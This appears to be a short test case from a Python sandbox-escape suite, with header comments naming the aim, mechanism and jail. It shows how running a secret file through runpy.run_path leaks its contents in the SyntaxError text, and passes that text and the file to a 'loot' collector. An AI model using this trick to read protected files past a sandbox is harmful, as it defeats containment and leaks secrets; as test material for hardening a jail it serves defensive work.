# aim: read a file by importing it, and look at the error
# mechanism: runpy.run_path shows the line that is no Python
# language: check
# reason: the policy does not authorize runpy
# jail: mount namespace, landlock
# plain: loot
import runpy
try:
    runpy.run_path(secret_path)
except BaseException as error:
    loot(f"{error} {getattr(error, 'text', '')} {error.__class__}")
    loot(open(secret_path).read())
